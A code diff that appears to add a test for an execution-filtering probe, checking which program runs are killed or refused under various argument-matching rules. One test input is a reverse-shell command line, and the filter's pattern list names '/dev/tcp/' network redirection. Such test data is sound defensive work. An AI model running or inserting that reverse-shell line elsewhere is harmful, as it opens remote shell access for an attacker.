@@ -315,6 +315,43 @@ pub fn live() -> Outcome {
     ended.well()
 }
 
+/// Texts of arguments by params, which the filter asks about; beside a closure, and live.
+pub fn texts_of_arguments() -> Outcome {
+    let path = program("busybox-texts")?;
+    let ended = shell::run(&format!(
+        r#"
+        let p = probe("exec", #{{path: "{path}", argv_contains: ["/dev/tcp/", "/dev/udp/"]}}).scope(#{{pid: getpid()}}).deny("EACCES").name("t").attach();
+        let out = [];
+        let attempt = |arguments| {{ let r = run(["{path}", "true"] + arguments); out.push([r.errno, r.signal]); }};
+        for text in ["bash -i >&/dev/tcp/10.0.0.1/1", "/dev/udp/", "/dev/tc"] {{ attempt.call([text]); }}
+        p.set("argv_contains", ["other"]); attempt.call(["/dev/tcp/"]); attempt.call(["an-other-one"]);
+        // Any one of them is enough.
+        p.detach(); p.set("argv", ["-e", "-c"]); p.set("argv_prefix", "--run="); p.attach();
+        for text in ["-e", "-ee", "--run=x", "x--run=", "others"] {{ attempt.call([text]); }}
+        p.detach(); p.set("argv", ()); p.set("argv_prefix", ()); p.set("cmdline_like", "*true two*wor?ds"); p.set("argv_contains", ()); p.attach();
+        attempt.call(["two", "many", "wor-ds"]); attempt.call(["two", "words"]);
+        p.when(|e| e.argc > 4); attempt.call(["two", "wor-ds"]); attempt.call(["two", "x", "wor-ds"]);
+        // Without any it decides before, and can refuse.
+        p.set("cmdline_like", ()); p.when(()); attempt.call(["two"]);
+        emit(#{{out: out, shown: p.to_string()}});
+        p.detach();
+        "#
+    ))?;
+    let (killed, ran) = (json!([null, "SIGKILL"]), json!([null, null]));
+    let expected = [
+        &[&killed, &killed, &ran][..],
+        &[&ran, &killed],
+        &[&killed, &ran, &killed, &ran, &killed],
+        &[&killed, &ran],
+        &[&ran, &killed],
+    ];
+    let mut expected: Vec<_> = expected.concat().into_iter().cloned().collect();
+    expected.push(json!(["EACCES", null]));
+    same("what became of each execution", &ended.emitted()?["out"], &json!(expected))?;
+    same("no trouble", &ended.books("t")?["errors"], &json!(0))?;
+    ended.well()
+}
+
 pub fn said_everywhere() -> Outcome {
     let path = program("said")?;
     let ended = shell::run(&format!(
